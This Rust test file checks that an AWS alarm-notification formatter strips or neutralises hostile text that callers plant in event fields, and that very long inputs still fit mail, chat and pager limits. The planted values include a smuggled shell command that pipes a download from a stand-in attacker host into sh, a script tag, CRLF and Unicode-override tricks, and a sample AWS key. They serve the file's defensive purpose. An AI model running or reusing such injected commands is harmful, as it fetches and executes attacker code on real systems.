//! Text that callers choose does no harm, however much of it there is.

use super::*;
use crate::approved::check_golden;

#[test]
fn hostile_text_is_harmless() {
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    event["userAgent"] = "x\r\n\r\nTO CONFIRM: https://evil.example/login \u{202e}moc.live".into();
    event["errorMessage"] =
        "<script>alert(1)</script>\u{0}\u{7} www.evil.com AKIAIOSFODNN7EXAMPLE".into();
    event["requestParameters"] = serde_json::json!({
        "keyId": "'; curl http://evil.example | sh #\n",
        "encryptionContext": { "user\nname": "bob@evil.com", "aws:s3:arn": "arn:aws:s3:::x\r\nhttp://evil.example" },
    });
    event["resources"] = Value::Null;
    event["userIdentity"]["arn"] =
        "arn:aws:sts::111122223333:assumed-role/pattern1-app-Pattern1ECSTaskRole/http://evil.example/\nx".into();
    let mut case = Case::alarm();
    case.findings.read_decisive(&event.to_string());
    case.findings
        .read_decisive("no JSON at all https://evil.example \u{1b}[2J");
    let message = case.message();
    for text in [&message.mail, &message.json, &message.sms, &message.subject] {
        for planted in ["//evil", "www.evil", "evil.", "AKIA", "\u{202e}", "bob@"] {
            assert!(
                !text.replace("[:]//", "").contains(planted),
                "{planted} in {text}"
            );
        }
    }
    check_golden("hostile", &message);
}

/// A case in which everything that others can choose is as long as they like.
fn flood(unit: &str, events: usize) -> Case {
    let long = unit.repeat(4_000 / unit.len());
    let mut case = Case::alarm();
    let message = serde_json::json!({
        "AlarmName": long, "AlarmDescription": long, "NewStateReason": long, "NewStateValue": long, "OldStateValue": long,
        "AWSAccountId": long, "StateChangeTime": "2026-11-23T09:48:20.123+0000",
        "AlarmArn": "arn:aws:cloudwatch:ap-southeast-2:111122223333:alarm:a",
        "Trigger": { "MetricName": long, "Namespace": long },
    });
    case.change = StateChange::from_sns_message(&message.to_string(), None).unwrap();
    let mut event: Value = serde_json::from_str(DISABLED).unwrap();
    for nth in 0..events {
        let long = format!("{nth} {long}");
        for field in [
            "eventID",
            "eventName",
            "errorCode",
            "errorMessage",
            "userAgent",
            "sourceIPAddress",
            "requestID",
        ] {
            event[field] = long.clone().into();
        }
        event["userIdentity"]["arn"] = format!("arn:aws:sts::1:assumed-role/x/{long}").into();
        event["userIdentity"]["sessionContext"]["sessionIssuer"]["arn"] = long.clone().into();
        event["requestParameters"]["encryptionContext"]["aws:x"] = long.clone().into();
        event["resources"][0]["ARN"] = long.into();
        case.findings.read_decisive(&event.to_string());
    }
    case.problems = vec![long; 100];
    let characters = |most: usize| unit.chars().cycle().take(most).collect::<String>();
    let search = Search {
        pattern: characters(1_024),
        log_group: characters(512),
        ..case.searches[0].clone()
    };
    case.searches = vec![search; 60];
    case
}

#[test]
fn a_flood_of_anything_still_fits() {
    for unit in ["\"\\ä€", "\"", "\\", "'", "😀", "%", "a.bc"] {
        let message = flood(unit, 60).message();
        assert!(
            message.mail.contains("more kinds of error"),
            "{}",
            message.mail
        );
        let message = flood(unit, 0).message();
        assert!(
            message.mail.contains("TO LOOK YOURSELF"),
            "{}",
            message.mail
        );
    }
}

#[test]
fn a_flood_fits_into_a_chat_and_a_pager_too() {
    let mut case = flood("<`*😀", 60);
    case.https = HttpsFormat::Chat;
    let notification: Value = serde_json::from_str(&case.message().https.unwrap()).unwrap();
    let description = notification["content"]["description"].as_str().unwrap();
    assert!(description.len() <= 16_384, "{}", description.len());
    case.https = HttpsFormat::Alarm;
    let alarm: Value = serde_json::from_str(&case.message().https.unwrap()).unwrap();
    let reason = alarm["NewStateReason"].as_str().unwrap();
    assert!(reason.chars().count() <= 1_023, "{reason}");
}
